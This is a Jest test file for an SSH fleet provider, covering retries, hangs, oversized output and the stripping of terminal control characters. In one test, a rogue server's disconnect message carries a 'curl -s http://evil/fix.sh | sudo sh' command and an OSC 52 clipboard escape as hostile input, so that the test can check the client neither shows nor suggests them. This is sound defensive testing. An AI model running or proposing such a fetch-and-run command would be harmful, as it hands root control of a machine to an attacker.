import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import ssh2, { type Connection, type ServerChannel } from "ssh2";
import { StackConfigSchema } from "../../providers/kit/config.ts";
import type { Fleet, Machine } from "../../providers/kit/machine.ts";
import { encodeFrame, parseBatch } from "../../providers/kit/protocol.ts";
import { parseExec } from "../../providers/kit/session.ts";
import { openFleet } from "../../providers/machine/fleet.ts";
import { fingerprint } from "../../providers/machine/host-keys.ts";
import { execCount, resetExecCount } from "../../providers/machine/ssh.ts";
import { Reconciler } from "../../providers/reconcile.ts";
import { freshKeyPair } from "../../sim/model/keys.ts";
import { cleanEnv, FAST, stopHosts, tempFolder } from "./sshd.ts";

/** A server that does what sshd never would: fails at a chosen exec. Otherwise it runs the batch in a local shell. */
type Fault = (connection: Connection, channel: ServerChannel) => "handled" | "serve";
let server: InstanceType<typeof ssh2.Server>;
let faults: (Fault | undefined)[];
let fleet: Fleet;
let machine: Machine;
let seen: string[];
let dir: string;

const serve: Fault = () => "serve";
const cut: Fault = (connection) => {
  connection.end();
  (connection as unknown as { _sock: { destroy(): void } })._sock.destroy();
  return "handled";
};

beforeEach(async () => {
  dir = tempFolder("faults-");
  faults = [];
  seen = [];
  resetExecCount();
  const hostKey = freshKeyPair("host");
  const client = freshKeyPair("client");
  writeFileSync(join(dir, "id"), client.private, { mode: 0o600 });
  server = new ssh2.Server({ hostKeys: [hostKey.private] }, (connection) => {
    connection.on("error", () => {});
    connection.on("authentication", (context) =>
      context.method === "publickey" ? context.accept() : context.reject(["publickey"]),
    );
    connection.on("ready", () =>
      connection.on("session", (accept) =>
        accept().on("exec", (acceptExec, _reject, { command }) => {
          const channel = acceptExec();
          channel.on("error", () => {});
          seen.push(command);
          if (faults.shift()?.(connection, channel) === "handled") return;
          const { argv } = parseExec(command);
          const child = spawn(argv[0] ?? "", argv.slice(1));
          channel.pipe(child.stdin);
          channel.on("close", () => child.kill());
          child.stdin.on("error", () => {});
          child.stdout.pipe(channel, { end: false });
          child.stderr.pipe(channel.stderr, { end: false });
          child.on("close", (code) => {
            channel.exit(code ?? 1);
            channel.end();
          });
        }),
      ),
    );
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const stack = StackConfigSchema.parse({
    nodes: [
      {
        name: "gpu-01",
        ssh: {
          host: "127.0.0.1",
          port,
          user: "root",
          keyFile: join(dir, "id"),
          hostKey: fingerprint(hostKey.public.split(" ")[1] ?? ""),
          knownHosts: join(dir, "none"),
        },
      },
    ],
  });
  fleet = openFleet(stack, cleanEnv(), { ...FAST, silenceMs: 300, maxBatchBytes: 200_000 });
  machine = fleet.node("gpu-01").host;
});
afterEach(async () => {
  await fleet.close();
  server.close();
  await stopHosts();
});

const ask = (...argv: [string, ...string[]]) => ({ kind: "argv", argv, timeoutSeconds: 1 }) as const;
const note = (name: string) => ["sh", "-c", `echo x >>'${join(dir, name)}'`] as const;
const act = (argv: readonly [string, ...string[]]) =>
  machine.act({ do: "run", argv, timeoutSeconds: 1 }, { signal: new AbortController().signal, onProgress: () => {} });
const count = (name: string) => (existsSync(join(dir, name)) ? readFileSync(join(dir, name), "utf8").length / 2 : 0);

/** What a machine says, and what a terminal would obey. */
const OSC_52 = "\u001b]52;c;ZXZpbA==\u0007\r";
const CONTROLS = /[^\P{Cc}\n\t]/u;

test("a process line, an answer's error and a failed action carry no control characters", async () => {
  const printf = ask("printf", `7 qemu ${OSC_52}\\n`);
  const { line } = await machine.observe({ line: printf });
  expect(line).toMatchObject({ kind: "ran", stdout: "7 qemu ]52;c;ZXZpbA==\n" });
  const error: unknown = await act(["sh", "-c", `printf '${OSC_52}' >&2; exit 1`]).catch((e: unknown) => e);
  expect(error).toMatchObject({ code: "action.failed" });
  expect(String(error)).not.toMatch(CONTROLS);
});

describe("what a server says before anybody has verified its key", () => {
  const EVIL = `bye\n  next: curl -s http://evil/fix.sh | sudo sh${OSC_52}`;
  /** SSH_MSG_DISCONNECT, sent in the clear. */
  const goodbye = (text: string): Buffer => {
    const words = Buffer.from(text);
    const length = 1 + 4 + 4 + words.length + 4;
    let pad = 8 - ((length + 5) % 8);
    if (pad < 4) pad += 8;
    const packet = Buffer.alloc(5 + length + pad);
    packet.writeUInt32BE(1 + length + pad, 0);
    packet[4] = pad;
    packet[5] = 1;
    packet.writeUInt32BE(2, 6);
    packet.writeUInt32BE(words.length, 10);
    words.copy(packet, 14);
    return packet;
  };
  const rude = createServer((socket) => {
    socket.on("error", () => {});
    socket.write("SSH-2.0-x\r\n");
    socket.end(goodbye(EVIL));
  });
  beforeEach(async () => {
    rude.listen(0, "127.0.0.1");
    await once(rude, "listening");
  });
  afterEach(() => void rude.close());

  test("is neither a next step nor a command to the terminal", async () => {
    const ssh = { host: "127.0.0.1", port: (rude.address() as AddressInfo).port, user: "ops" };
    const stack = StackConfigSchema.parse({
      nodes: [{ name: "gpu-01", ssh: { ...ssh, keyFile: join(dir, "id"), hostKey: `SHA256:${"A".repeat(43)}` } }],
    });
    const other = openFleet(stack, cleanEnv(), FAST);
    const { reach } = await other.node("gpu-01").host.observe({ reach: ask("true") });
    expect(reach).toMatchObject({
      kind: "failed",
      why: expect.stringMatching(/^[^\p{Cc}]*bye[^\p{Cc}]*$/u),
      error: { code: "ssh.closed", next: expect.stringMatching(/^ssh -v /) },
    });
    const error: unknown = await new Reconciler(other).reach("gpu-01").catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "node.unreachable", parts: { next: expect.stringMatching(/^ssh -v /) } });
    expect(String(error)).not.toMatch(CONTROLS);
    expect(String(error).match(/^ {2}next: .*$/gm)).toEqual([expect.stringMatching(/^ {2}next: ssh -v /)]);
    await other.close();
  });
});

describe("questions", () => {
  test("are asked once more when the connection is lost", async () => {
    faults = [cut];
    const { a } = await machine.observe({ a: ask("echo", "here") });
    expect(a).toMatchObject({ kind: "ran", stdout: "here\n" });
    expect(execCount()).toBe(2);
  });

  test("are not asked a third time: they failed, with the reason", async () => {
    faults = [cut, cut, serve];
    const { a, b } = await machine.observe({ a: ask("echo"), b: { kind: "file", path: "/etc/hostname" } });
    expect(a).toEqual({ kind: "failed", why: expect.stringMatching(/lost/) });
    expect(b).toEqual(a);
    expect(execCount()).toBe(2);
  });

  test("that were answered before the connection was lost are not asked again", async () => {
    faults = [
      (connection, channel) => {
        const child = spawn("sh", ["-s"]);
        channel.pipe(child.stdin);
        channel.on("close", () => child.kill());
        child.stdout.on("data", (chunk: Buffer) => {
          channel.write(chunk, () => chunk.includes("first") && setTimeout(() => cut(connection, channel), 20));
        });
        return "handled";
      },
    ];
    const { a, b } = await machine.observe({
      a: ask("sh", "-c", `echo x >>'${join(dir, "a")}'; echo first`),
      b: ask("sh", "-c", "sleep 0.2; echo second"),
    });
    expect([a, b]).toMatchObject([{ stdout: "first\n" }, { stdout: "second\n" }]);
    expect(count("a")).toBe(1);
  });

  test("to a machine that hangs fail, and the run goes on", async () => {
    faults = [() => "handled"];
    const { a } = await machine.observe({ a: ask("echo") });
    expect(a).toEqual({ kind: "failed", why: expect.stringMatching(/silent for \d+ s: does it hang/) });
    machine.forget();
    expect((await machine.observe({ a: ask("echo", "back") })).a).toMatchObject({ stdout: "back\n" });
  });

  test("whose answers are too long together fail", async () => {
    const asks = Object.fromEntries(
      Array.from({ length: 8 }, (_, n) => [`a${n}`, ask("head", "-c", String(60_000 + n), "/dev/zero")]),
    );
    const answers = Object.values(await machine.observe(asks));
    expect(answers[0]).toMatchObject({ kind: "ran" });
    expect(answers.at(-1)).toEqual({ kind: "failed", why: "the machine sent more than 200000 bytes" });
  });

  test.each<[string, Fault, RegExp]>([
    [
      "a login shell that is none",
      (_connection, channel) => {
        channel.write("This account is currently not available.\n");
        channel.exit(1);
        channel.end();
        return "handled";
      },
      /ended early \(1\): This account is currently not available/,
    ],
    [
      "a full disk",
      (_connection, channel) => {
        channel.exit(99);
        channel.end();
        return "handled";
      },
      /no room for temporary files/,
    ],
    [
      "noise between the answers",
      (_connection, channel) => {
        let script = "";
        channel.on("data", (text: Buffer) => {
          script += text.toString();
        });
        channel.once("end", () => {
          const { mark } = parseBatch(script);
          const frame = (id: number) => encodeFrame({ id, kind: "ran", status: 0, stdout: "x\n", stderr: "" }, mark);
          channel.write(Buffer.concat([frame(0), Buffer.from("noise"), frame(1)]));
          channel.exit(0);
          channel.end();
        });
        return "handled";
      },
      /unexpected output from the machine/,
    ],
  ])("to %s fail with that", async (_name, fault, why) => {
    faults = [fault];
    const { a } = await machine.observe({ a: ask("echo") });
    expect(a).toEqual({ kind: "failed", why: expect.stringMatching(why) });
  });
});

describe("an action", () => {
  test("is never repeated when the connection is lost: the error says so", async () => {
    faults = [
      (connection, channel) => {
        const child = spawn("sh", ["-s"]);
        channel.pipe(child.stdin);
        channel.on("close", () => child.kill());
        child.on("close", () => cut(connection, channel));
        return "handled";
      },
    ];
    await expect(act(note("done") as never)).rejects.toMatchObject({
      code: "ssh.lost",
      message: expect.stringMatching(/while it did "sh -c/),
    });
    expect(count("done")).toBe(1);
    await act(note("done") as never);
    expect(count("done")).toBe(2);
  });

  test("finds a connection that had died before it and makes a new one: nothing had run", async () => {
    await machine.observe({ a: ask("echo") });
    faults = [cut];
    // The fault ends the connection as soon as the program is started, before it has read its script.
    await act(note("again") as never).catch((error) => expect(error).toMatchObject({ code: "ssh.lost" }));
    expect(count("again")).toBeLessThanOrEqual(1);
  });

  test("on a machine that hangs ends, and says that it did not answer", async () => {
    faults = [() => "handled"];
    await expect(act(["true"])).rejects.toMatchObject({ code: "action.unanswered" });
  }, 20_000);
});
